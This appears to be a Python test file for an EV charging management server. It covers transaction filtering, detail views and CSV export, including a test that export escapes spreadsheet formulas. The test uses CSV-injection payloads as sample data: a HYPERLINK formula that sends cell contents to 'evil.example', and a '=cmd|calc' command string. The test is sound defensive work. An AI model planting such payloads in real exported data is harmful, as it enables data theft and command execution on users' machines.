"""Transactions over HTTP: filters, pages, detail with meter values, CSV export."""

from __future__ import annotations

import csv
import io

import httpx

from opencsms.runtime import Runtime
from tests.e2e.wsclient import RawStation

BOOT16 = {"chargePointVendor": "Acme", "chargePointModel": "AC22"}


async def charge(st: RawStation, connector: int, tag: str, day: str, wh: int, stop: bool = True) -> int:
    start = await st.call(
        "StartTransaction",
        {"connectorId": connector, "idTag": tag, "meterStart": 1000, "timestamp": f"2026-01-{day}T10:00:00Z"},
    )
    tx_id: int = start[2]["transactionId"]
    await st.call(
        "MeterValues",
        {
            "connectorId": connector,
            "transactionId": tx_id,
            "meterValue": [
                {"timestamp": f"2026-01-{day}T10:30:00Z", "sampledValue": [{"value": str(1000 + wh // 2)}]}
            ],
        },
    )
    if stop:
        await st.call(
            "StopTransaction",
            {"transactionId": tx_id, "meterStop": 1000 + wh, "timestamp": f"2026-01-{day}T11:00:00Z"},
        )
    return tx_id


async def test_filters_detail_and_csv(server: Runtime, client: httpx.AsyncClient) -> None:
    await server.domain.tokens.add("A")
    await server.domain.tokens.add("B")
    a = await RawStation.open(server.ocpp_url, "CP-TA", ("ocpp1.6",))
    b = await RawStation.open(server.ocpp_url, "CP-TB", ("ocpp1.6",))
    try:
        for st in (a, b):
            await st.call("BootNotification", BOOT16)
        first = await charge(a, 1, "A", "01", 5000)
        second = await charge(a, 2, "B", "02", 7000)
        third = await charge(b, 1, "A", "03", 9000, stop=False)

        async def ids(**params: object) -> list[int]:
            page = (await client.get("/api/v1/transactions", params=params)).json()
            return [t["id"] for t in page["items"]]

        assert await ids() == [third, second, first]
        assert await ids(station_id="CP-TA") == [second, first]
        assert await ids(id_token="A", sort="id") == [first, third]
        assert await ids(active=True) == [third]
        assert await ids(started_from="2026-01-02T00:00:00Z", started_to="2026-01-03T00:00:00Z") == [second]
        assert await ids(limit=1, offset=1) == [second]
        assert (await client.get("/api/v1/transactions", params={"sort": "nope"})).status_code == 422

        detail = (await client.get(f"/api/v1/transactions/{first}")).json()
        assert detail["energy_wh"] == 5000 and detail["id_token"] == "A"
        assert [m["value"] for m in detail["meter_values"]] == ["3500"]
        assert (await client.get("/api/v1/transactions/999999")).status_code == 404

        export = await client.get(
            "/api/v1/transactions/export.csv", params={"station_id": "CP-TA", "sort": "id"}
        )
        assert export.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(export.text)))
        assert [int(r["id"]) for r in rows] == [first, second]
        assert (
            rows[1]["energy_wh"] == "7000.0" and rows[1]["id_token"] == "B" and rows[1]["status"] == "ended"
        )
        everything = list(
            csv.DictReader(io.StringIO((await client.get("/api/v1/transactions/export.csv")).text))
        )
        assert len(everything) == 3 and everything[0]["stopped_at"] == ""
    finally:
        await a.close()
        await b.close()


async def test_csv_export_neutralises_formulas(server: Runtime, client: httpx.AsyncClient) -> None:
    """A station id or id tag a spreadsheet would run as a formula is exported as text."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    await server.domain.tokens.add("@SUM(1+1)")
    station = await RawStation.open(server.ocpp_url, "=cmd|calc", ("ocpp1.6",))
    try:
        await station.call("BootNotification", BOOT16)
        await charge(station, 1, "@SUM(1+1)", "04", 1000)
        start = await station.call(
            "StartTransaction",
            {"connectorId": 2, "idTag": formula[:20], "meterStart": 0, "timestamp": "2026-01-05T10:00:00Z"},
        )
        assert start[0] == 3
    finally:
        await station.close()
    export = await client.get("/api/v1/transactions/export.csv", params={"sort": "id"})
    rows = list(csv.DictReader(io.StringIO(export.text)))
    assert [(r["station_id"], r["id_token"]) for r in rows] == [
        ("'=cmd|calc", "'@SUM(1+1)"),
        ("'=cmd|calc", "'" + formula[:20]),
    ]
    assert rows[0]["energy_wh"] == "1000.0"  # numbers stay numbers


def test_csv_cell_keeps_negative_numbers_and_plain_text() -> None:
    from opencsms.api.transactions import csv_cell

    assert csv_cell("-12.5") == "-12.5"
    assert csv_cell("-cmd") == "'-cmd"
    assert csv_cell("\tx") == "'\tx"
    assert csv_cell("CP-1") == "CP-1"
    assert csv_cell(None) == ""
    assert csv_cell(3) == 3
